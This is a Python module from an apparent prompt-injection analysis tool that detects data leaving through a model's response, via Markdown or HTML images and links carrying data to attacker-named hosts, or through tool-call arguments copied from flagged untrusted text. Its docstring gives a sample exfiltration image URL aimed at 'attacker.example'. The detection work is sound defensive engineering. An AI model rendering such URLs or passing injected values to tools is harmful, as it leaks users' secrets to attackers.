"""Sinks, not only sources: the response and the proposed tool calls, where data leaves.

An injection's goal is an effect: the model renders ``![](https://attacker.example/p?q=<secret>)``
in its answer (a client that renders Markdown fetches it: the exfiltration itself), or passes a
value the data supplied to a tool. :func:`sink_findings` reads both, for any tool:

- ``injection.response_exfiltration`` -- the response holds a Markdown or HTML image whose URL
  carries data (a query value of 12 or more characters, or an encoded run), or a link carrying
  data to a host that only untrusted data named. Linked back to the untrusted items that name the
  URL's host (spans of the host there); ``failure`` when so linked or when the image carries data
  to a host no trusted input names, ``warning`` for a data-bearing image to a host the user or
  policy named.
- ``injection.argument_from_flagged`` -- an argument of a proposed tool call (any tool) carries
  text quoted from flagged untrusted text (16 characters or more, within 300 characters of a
  scanner hit), or is a URL carrying data to a host only untrusted data named. Severity by the
  application's verdict on the call, as for action linkage (:mod:`.linkage`).

Values the trusted input (the policy, the user's request and turns) holds are never counted. No Qt here.
"""

from __future__ import annotations

import json
import re
from typing import Iterator
from urllib.parse import parse_qsl, urlsplit

from ctxviewer.assess.scanner.linkage import _leaves, _severity, call_ref
from ctxviewer.assess.scanner.scope import ItemScan, Scope, item_label
from ctxviewer.model.findings import Evidence, Finding, Severity, TextSpan
from ctxviewer.model.table31 import row
from ctxviewer.model.trace import RequestTrace

_IMAGE = re.compile(r"!\[[^\]\n]{0,200}\]\(\s*<?(?P<url>https?://[^)\s>]+)|<img\b[^>]*?\bsrc\s*=\s*[\"']?(?P<src>https?://[^\"'\s>]+)",
                    re.IGNORECASE)
_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,200}\]\(\s*<?(?P<url>https?://[^)\s>]+)|(?P<bare>https?://[^\s)<>\"']+)", re.IGNORECASE)
_ENCODED = re.compile(r"(?=[^/?#]*[0-9])(?=[^/?#]*[a-z])(?=[^/?#]*[A-Z])[A-Za-z0-9+=_-]{24,}")
"""A base64-like run in a path segment: mixed case and a digit (a slug such as
``how-to-configure-the-router`` is not)."""
QUOTE_CHARS = 16
"""An argument counts as quoting flagged text when this many characters of it (whitespace and case
folded) appear in the flagged item near a hit."""
NEAR_HIT = 300
"""Characters either side of a scanner hit that count as the flagged text."""


def carries_data(url: str) -> str | None:
    """The part of ``url`` that carries data (a query value of 12+ characters, a base64-like run of
    24+ in the path), or ``None``."""
    parts = urlsplit(url)
    for _key, value in parse_qsl(parts.query, keep_blank_values=True):
        if len(value) >= 12:
            return value
    m = _ENCODED.search(parts.path)
    return m.group(0) if m else None


def _host(url: str) -> str:
    return (urlsplit(url).hostname or "").lower()


def _named_by(host: str, scans: list[ItemScan]) -> list[tuple[ItemScan, tuple[int, int]]]:
    out = []
    for s in scans:
        text = s.item.content or ""
        i = text.lower().find(host)
        if host and i >= 0:
            out.append((s, (i, i + len(host))))
    return out


def sink_findings(trace: RequestTrace, scans: list[ItemScan]) -> list[Finding]:
    """The response and tool-call sink findings of ``trace`` given its item scans (module docstring)."""
    untrusted = [s for s in scans if s.scope is Scope.UNTRUSTED]
    trusted = " ".join([s.item.content or "" for s in scans if s.scope in (Scope.TRUSTED, Scope.PRINCIPAL)]
                       + [trace.user_request or ""]).lower()
    return list(_response(trace, untrusted, trusted)) + list(_arguments(trace, untrusted, trusted))


def _response(trace: RequestTrace, untrusted: list[ItemScan], trusted: str) -> Iterator[Finding]:
    text = trace.response.text if trace.response else None
    if not text:
        return
    seen: set[str] = set()
    for pattern, is_image in ((_IMAGE, True), (_LINK, False)):
        for m in pattern.finditer(text):
            url = next((g for g in m.groups() if g), "")
            data = carries_data(url)
            host = _host(url)
            if not data or url in seen or not host:
                continue
            by_untrusted = [] if host in trusted else _named_by(host, untrusted)
            if not is_image and not by_untrusted:
                continue  # a link needs a click; only one to a host the data named is reported
            seen.add(url)
            if by_untrusted:
                sev, why = Severity.FAILURE, "a host named only by untrusted " + ", ".join(
                    dict.fromkeys(item_label(s.item) for s, _ in by_untrusted))
            elif host in trusted:
                sev, why = Severity.WARNING, "a host the trusted input names"
            else:
                sev, why = Severity.FAILURE, "a host no trusted input names"
            kind = "image (fetched when the answer is rendered)" if is_image else "link"
            yield Finding(
                rule="injection.response_exfiltration", severity=sev,
                message=f"the response holds a {kind} whose URL carries data ({data[:40]!r}) to {why}: {url[:100]}",
                evidence=Evidence(item_ids=tuple(dict.fromkeys(s.item.id for s, _ in by_untrusted)),
                                  fields=("response.text",),
                                  spans=tuple(TextSpan(s.item.id, a, b) for s, (a, b) in by_untrusted)),
                table_row=5, first_evidence=row(5).first_evidence, repair=row(5).repair)


def _fold(s: str) -> str:
    return " ".join(s.split()).lower()


def _arguments(trace: RequestTrace, untrusted: list[ItemScan], trusted: str) -> Iterator[Finding]:
    flagged = [s for s in untrusted if any(h.severity.rank >= Severity.WARNING.rank for h in s.hits)]
    after_flag = bool(flagged)
    for n, call in enumerate(trace.tool_calls):
        try:
            parsed = json.loads(call.arguments or "{}")
        except (json.JSONDecodeError, TypeError):
            parsed = {"arguments": call.arguments or ""}
        linked: list[tuple[str, str, ItemScan, tuple[int, int]]] = []
        for path, value in _leaves(parsed):
            if not isinstance(value, str) or len(value.strip()) < QUOTE_CHARS:
                continue
            v = value.strip()
            if re.match(r"https?://", v):
                if any(v.lower() in (s.item.content or "").lower() for s in untrusted):
                    continue  # the whole URL is in the data: action linkage's case
                host, data = _host(v), carries_data(v)
                if data and host and host not in trusted:
                    linked += [(path, f"URL carrying {data[:30]!r} to {host}", s, span) for s, span in _named_by(host, untrusted)]
                continue
            folded = _fold(v)
            if folded in trusted:
                continue
            for s in flagged:
                span = _quoted(s, folded)
                if span:
                    linked.append((path, f"text quoted from flagged {item_label(s.item)}", s, span))
        if not linked:
            continue
        sev, what = _severity(call.verdict, after_flag)
        ref = call_ref(call, n)
        names = "; ".join(dict.fromkeys(f"{p}: {w}" for p, w, _, _ in linked))
        yield Finding(
            rule="injection.argument_from_flagged", severity=sev,
            message=f"{call.name} call {ref}: {names}; {what}",
            evidence=Evidence(item_ids=tuple(dict.fromkeys(s.item.id for _, _, s, _ in linked)),
                              fields=(f"tool_calls[{n}].arguments", f"tool_calls[{n}].verdict"),
                              spans=tuple(dict.fromkeys(TextSpan(s.item.id, a, b) for _, _, s, (a, b) in linked)),
                              tool_call_ids=(ref,)),
            table_row=5, first_evidence=row(5).first_evidence, repair=row(5).repair)


def _quoted(scan: ItemScan, folded_arg: str) -> tuple[int, int] | None:
    """The span in ``scan``'s item, near one of its hits, where the argument's text (folded) appears."""
    text = scan.item.content or ""
    probe = folded_arg[:80]
    for h in scan.hits:
        if h.severity.rank < Severity.WARNING.rank:
            continue
        a, b = max(0, h.start - NEAR_HIT), min(len(text), h.end + NEAR_HIT)
        window = text[a:b]
        words = probe.split()
        pattern = r"\s+".join(re.escape(w) for w in words)
        m = re.search(pattern, window, re.IGNORECASE) if len(probe) >= QUOTE_CHARS else None
        if m:
            return a + m.start(), a + m.end()
    return None
